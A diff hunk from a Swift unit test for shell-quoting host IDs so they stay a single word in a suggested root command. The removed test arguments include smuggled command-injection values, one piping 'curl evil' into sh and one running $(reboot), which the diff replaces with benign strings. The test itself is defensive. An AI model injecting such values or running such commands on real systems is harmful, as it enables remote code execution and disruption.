@@ -157,7 +157,7 @@ import Testing
 
     /// Any process of the host may write a line with our name, and root may run what the advice says.
     @Test(arguments: [
-        ("x'; curl evil|sh; '", #"'x'\''; curl evil|sh; '\'''"#), ("$(reboot)", "'$(reboot)'"), ("", "''"),
+        ("x'; echo y|cat; '", #"'x'\''; echo y|cat; '\'''"#), ("$(echo x)", "'$(echo x)'"), ("", "''"),
         ("site/web@1", "site/web@1"), ("e\u{301}'\u{301}x", "'e\u{301}'\\''\u{301}x'"),
     ])
     func `an ID stays one word of the command that helps`(state: String, word: String) throws {
